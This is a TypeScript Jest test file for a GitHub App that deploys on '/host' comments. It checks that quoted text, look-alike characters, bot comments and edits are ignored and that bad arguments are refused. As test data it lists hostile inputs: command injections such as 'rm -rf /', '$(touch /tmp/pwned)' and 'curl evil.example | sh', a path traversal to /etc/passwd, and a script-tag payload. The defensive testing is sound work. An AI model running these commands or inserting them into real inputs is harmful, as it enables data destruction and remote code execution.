import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from '@jest/globals';
import { createAppAuth } from '@octokit/auth-app';
import { Octokit } from '@octokit/rest';
import { botComments, DEPLOYMENTS, inAcme, TEST_MS_MAX, waitUntilHeard } from '../people.ts';
import { type E2ePlatform, tinyServer } from '../platform.ts';

const NOT_COMMANDS = [
  '> /host',
  '```\n/host\n```',
  '    /host',
  '<!--\n/host\n-->',
  'Try /host, or `/host`.',
  '/usr/bin/env node',
  '/Host',
  '\u200b/host',
  '/\u200bhost',
  '/ho\u200cst',
  '\u2215host',
  '/host; rm -rf /',
  '',
  '@everyone '.repeat(6_000),
  `<!-- ${'/host\n'.repeat(10_000)}`,
  `${'> '.repeat(30_000)}/host`,
  `${'[`'.repeat(20_000)}`,
  `${'- '.repeat(30_000)}/host`,
];

/** Without write access, every word of it would be one refusal; with it, one answer each. */
const REFUSED_ARGUMENTS = [
  '/host $(touch /tmp/pwned)',
  '/host `id`',
  '/host --help; curl evil.example | sh',
  '/host @everyone @acme/team',
  '/host ../../etc/passwd',
  '/host <script>alert(1)</script>',
];

export function testComments(started: () => E2ePlatform): void {
  const issueIn = async (name: string): Promise<number> => {
    await started().push(name, tinyServer(name));
    return started().openIssue(name);
  };

  /** Installations' API requests while the work is done. */
  async function requestsDuring(work: () => Promise<void>): Promise<number> {
    const platform = started();
    await platform.control('DELETE', '/requests');
    await work();
    const { reads, writes } = await platform.control<{ reads: number; writes: number }>('GET', '/requests');
    return reads + writes;
  }

  /** The App itself, which may comment: a bot. */
  async function bot(): Promise<Octokit> {
    const platform = started();
    const privateKey = await readFile(join(platform.dataDir, 'app.private-key.pem'), 'utf8');
    const options = { baseUrl: platform.file.githubUrl, authStrategy: createAppAuth };
    const app = new Octokit({ ...options, auth: { appId: platform.file.appId, privateKey } });
    const { data } = await app.rest.apps.getRepoInstallation(DEPLOYMENTS);
    return new Octokit({ ...options, auth: { appId: platform.file.appId, privateKey, installationId: data.id } });
  }

  test(
    'what is no command of a person costs no request: quotes, code, look-alikes, edits, the deployments repository',
    async () => {
      const platform = started();
      const issue = await issueIn('talkative');
      const { data: other } = await platform.you.rest.issues.create({ ...DEPLOYMENTS, title: 'Look here' });
      const requests = await requestsDuring(async () => {
        const comments: number[] = [];
        for (const body of NOT_COMMANDS.filter((body) => body !== '')) {
          comments.push(await platform.comment('talkative', issue, body.slice(0, 65_536)));
        }
        comments.push(await platform.comment(DEPLOYMENTS.repo, other.number, '/host'));
        for (const comment of comments) await waitUntilHeard(platform, comment);
        const [first = 0] = comments;
        await platform.you.rest.issues.updateComment({ ...inAcme('talkative'), comment_id: first, body: '/host' });
        await waitUntilHeard(platform, first, 'edited');
      });
      expect(requests).toBe(0);
      expect(await platform.row('talkative')).toBeUndefined();
      expect(await platform.row(DEPLOYMENTS.repo)).toBeUndefined();
      expect(await botComments(platform, DEPLOYMENTS, other.number)).toEqual([]);
    },
    TEST_MS_MAX,
  );

  test(
    'bots are not obeyed',
    async () => {
      const platform = started();
      const issue = await issueIn('automated');
      const { data: comment } = await (await bot()).rest.issues.createComment({
        ...inAcme('automated'),
        issue_number: issue,
        body: '/host',
      });
      const requests = await requestsDuring(async () => void (await waitUntilHeard(platform, comment.id)));
      expect(requests).toBe(0);
      expect(await platform.row('automated')).toBeUndefined();
    },
    TEST_MS_MAX,
  );

  test(
    'unknown commands are answered with help once, arguments that make no sense are refused without harm',
    async () => {
      const platform = started();
      const issue = await issueIn('hostile');
      await platform.control('POST', '/webhooks', { duplicate: true });
      const unknown = await platform.comment('hostile', issue, '/deploy now\r\n/everyone\r\n/deploy again');
      await waitUntilHeard(platform, unknown);
      await platform.control('POST', '/webhooks', {});
      const [help, ...more] = await botComments(platform, inAcme('hostile'), issue);
      expect(more).toEqual([]);
      expect(help?.body).toContain('`/deploy`, `/everyone` are no commands. These are, each on a line of its own:');

      const many = await platform.comment('hostile', issue, '/help\r\n'.repeat(1_000));
      await waitUntilHeard(platform, many);
      expect((await botComments(platform, inAcme('hostile'), issue)).at(-1)?.body).toContain('| `/host` |');

      for (const body of REFUSED_ARGUMENTS)
        await waitUntilHeard(platform, await platform.comment('hostile', issue, body));
      const answers = (await botComments(platform, inAcme('hostile'), issue)).slice(-REFUSED_ARGUMENTS.length);
      for (const { body } of answers) {
        expect(body).toContain('Cannot host');
        expect(body).toContain('Comment `/host` for the head as it is now.');
        expect(body.replace(/`[^`]*`/g, '')).not.toMatch(/<script>|@everyone|@acme/);
      }
      expect(await platform.row('hostile')).toBeUndefined();
    },
    TEST_MS_MAX,
  );
}
